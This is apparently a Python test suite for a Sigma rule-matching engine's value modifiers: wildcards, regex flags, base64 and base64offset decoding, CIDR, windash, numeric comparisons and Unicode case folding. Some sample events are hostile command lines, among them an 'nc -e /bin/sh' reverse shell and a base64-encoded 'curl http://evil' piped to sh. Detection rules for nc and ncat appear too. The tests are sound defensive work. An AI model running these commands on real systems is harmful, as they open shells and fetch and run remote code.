"""Value modifiers, wildcards and case folding, seen through whole rules."""

from __future__ import annotations

import base64
import re
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st
from sigma.types import SigmaString

from collector.detection.modifiers import Kind, fold, string_pattern, text_predicate
from tests.collector.detection.detection_helpers import engine_for, fim, proc, rule


def hits(tmp_path: Path, detection: str, event: dict[str, object]) -> bool:
    return bool(engine_for(tmp_path, rule(detection)).process(event))


def test_plain_value_is_whole_value_case_insensitive(tmp_path: Path) -> None:
    det = "sel:\n    CommandLine: 'whoami'\ncondition: sel"
    assert hits(tmp_path, det, proc("WHOAMI"))
    assert not hits(tmp_path, det, proc("whoami /all"))


def test_contains_startswith_endswith(tmp_path: Path) -> None:
    det = ("sel:\n    CommandLine|contains: 'base64 -d'\n    Image|endswith: '/bash'\n"
           "    CommandLine|startswith: 'bash'\ncondition: sel")
    assert hits(tmp_path, det, proc("bash -c 'echo x | BASE64 -d'", "/bin/bash"))
    assert not hits(tmp_path, det, proc("sh -c 'base64 -d'", "/bin/bash"))
    assert not hits(tmp_path, det, proc("bash -c 'base64 -d'", "/bin/bash2"))


def test_list_is_or_and_all_is_and(tmp_path: Path) -> None:
    any_of = "sel:\n    CommandLine|contains: ['nc ', 'ncat ']\ncondition: sel"
    all_of = "sel:\n    CommandLine|contains|all: ['nc ', '-e ']\ncondition: sel"
    assert hits(tmp_path, any_of, proc("ncat 1.2.3.4"))
    assert not hits(tmp_path, all_of, proc("nc 1.2.3.4 4444"))
    assert hits(tmp_path, all_of, proc("nc -e /bin/sh 1.2.3.4 4444"))


def test_wildcards_and_escapes(tmp_path: Path) -> None:
    star = "sel:\n    Image: '/tmp/*/x?'\ncondition: sel"
    assert hits(tmp_path, star, proc(executable="/tmp/a/b/x1"))
    assert not hits(tmp_path, star, proc(executable="/tmp/a/x12"))
    literal = "sel:\n    CommandLine: 'echo \\*\\?'\ncondition: sel"
    assert hits(tmp_path, literal, proc("echo *?"))
    assert not hits(tmp_path, literal, proc("echo ab"))


def test_cased(tmp_path: Path) -> None:
    det = "sel:\n    CommandLine|cased|contains: ' -O '\ncondition: sel"
    assert hits(tmp_path, det, proc("wget -O x"))
    assert not hits(tmp_path, det, proc("wget -o x"))


def test_vietnamese_case_folding(tmp_path: Path) -> None:
    det = "sel:\n    file.path|contains: 'nhà cái'\ncondition: sel"
    engine = engine_for(tmp_path, rule(det, "product: linux\n    category: file_event"))
    assert engine.process(fim("created", "/var/www/NHÀ CÁI uy tín.html"))
    # decomposed (NFD) text matches the composed rule too
    assert engine.process(fim("created", "/var/www/Nha\u0300 ca\u0301i.html"))
    assert not engine.process(fim("created", "/var/www/nha cai.html"))


def test_re_is_case_sensitive_substring_search_with_flags(tmp_path: Path) -> None:
    det = "sel:\n    CommandLine|re: '\\s-O\\s'\ncondition: sel"
    assert hits(tmp_path, det, proc("wget -O /tmp/x http://a"))
    assert not hits(tmp_path, det, proc("wget -o /tmp/x http://a"))
    ignore_case = "sel:\n    CommandLine|re|i: '^WGET'\ncondition: sel"
    assert hits(tmp_path, ignore_case, proc("wget x"))
    dotall = "sel:\n    CommandLine|re|s: 'a.b'\ncondition: sel"
    assert hits(tmp_path, dotall, proc("a\nb"))
    multiline = "sel:\n    CommandLine|re|m: '^b$'\ncondition: sel"
    assert hits(tmp_path, multiline, proc("a\nb\nc"))
    assert not hits(tmp_path, "sel:\n    CommandLine|re: '^b$'\ncondition: sel",
                    proc("a\nb\nc"))


def test_cidr(tmp_path: Path) -> None:
    det = "sel:\n    DestinationIp|cidr: ['10.0.0.0/8', 'fd00::/8']\ncondition: sel"
    engine = engine_for(tmp_path, rule(det, "product: linux\n    category: network_connection"))
    from tests.collector.detection.detection_helpers import net
    assert engine.process(net(ip="10.1.2.3"))
    assert engine.process(net(ip="fd00::1"))
    assert not engine.process(net(ip="11.1.2.3"))
    assert not engine.process(net(ip="not-an-ip"))


def test_base64_and_base64offset(tmp_path: Path) -> None:
    encoded = base64.b64encode(b"curl http://evil").decode()
    det = "sel:\n    CommandLine|base64|contains: 'curl http://evil'\ncondition: sel"
    assert hits(tmp_path, det, proc(f"echo {encoded} | base64 -d | sh"))
    assert not hits(tmp_path, det, proc(f"echo {encoded.lower()} | base64 -d | sh"))
    offset = "sel:\n    CommandLine|base64offset|contains: 'http://evil'\ncondition: sel"
    for prefix in (b"", b"x", b"xy"):
        blob = base64.b64encode(prefix + b"http://evil/x").decode()
        assert hits(tmp_path, offset, proc(f"echo {blob}")), prefix


def test_windash(tmp_path: Path) -> None:
    det = "sel:\n    CommandLine|windash|contains: ' -exec '\ncondition: sel"
    assert hits(tmp_path, det, proc("find . /exec sh"))
    assert hits(tmp_path, det, proc("find . \u2013exec sh"))
    assert not hits(tmp_path, det, proc("find . exec sh"))


def test_numeric_comparisons(tmp_path: Path) -> None:
    for mod, value, good, bad in (("gt", 1024, 8080, 1024), ("gte", 1024, 1024, 1023),
                                  ("lt", 1024, 80, 1024), ("lte", 1024, 1024, 1025)):
        det = f"sel:\n    DestinationPort|{mod}: {value}\ncondition: sel"
        engine = engine_for(tmp_path, rule(det, "product: linux\n    category: network_connection"))
        from tests.collector.detection.detection_helpers import net
        assert engine.process(net(port=good)), mod
        assert not engine.process(net(port=bad)), mod
        assert engine.process(net(port=str(good))), "numeric strings compare as numbers"


def test_fieldref(tmp_path: Path) -> None:
    det = "sel:\n    CommandLine|fieldref: Image\ncondition: sel"
    assert hits(tmp_path, det, proc("/usr/bin/ls", "/usr/bin/LS"))
    assert not hits(tmp_path, det, proc("/usr/bin/ls -la", "/usr/bin/ls"))
    starts = "sel:\n    CommandLine|fieldref|startswith: Image\ncondition: sel"
    assert hits(tmp_path, starts, proc("/usr/bin/ls -la", "/usr/bin/ls"))


def test_exists(tmp_path: Path) -> None:
    det = "sel:\n    process.parent.executable|exists: true\ncondition: sel"
    assert hits(tmp_path, det, proc(process={"parent": {"executable": "/bin/sh"}}))
    assert not hits(tmp_path, det, proc())
    absent = "sel:\n    process.parent.executable|exists: false\ncondition: sel"
    assert hits(tmp_path, absent, proc())


def test_fold_is_idempotent_and_case_blind() -> None:
    assert fold("NHÀ CÁI") == fold("nhà cái") == fold(fold("Nhà Cái"))
    assert fold("STRASSE") == fold("straße")


_text = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=12)


@given(st.lists(st.one_of(_text, st.sampled_from(["*", "?"])), min_size=1, max_size=6),
       _text)
def test_wildcard_pattern_agrees_with_reference_regex(parts: list[str], value: str) -> None:
    """Our compiled pattern matches exactly what a naive wildcard regex matches."""
    escaped = "".join(p if p in ("*", "?") else
                      p.replace("\\", "\\\\").replace("*", "\\*").replace("?", "\\?")
                      for p in parts)
    pattern = string_pattern(SigmaString(escaped), cased=True)
    reference = "".join(".*" if p == "*" else "." if p == "?" else re.escape(p) for p in parts)
    expected = re.fullmatch(reference, value, re.DOTALL) is not None
    assert bool(text_predicate([pattern])(value)) == expected
    assert pattern.kind in Kind
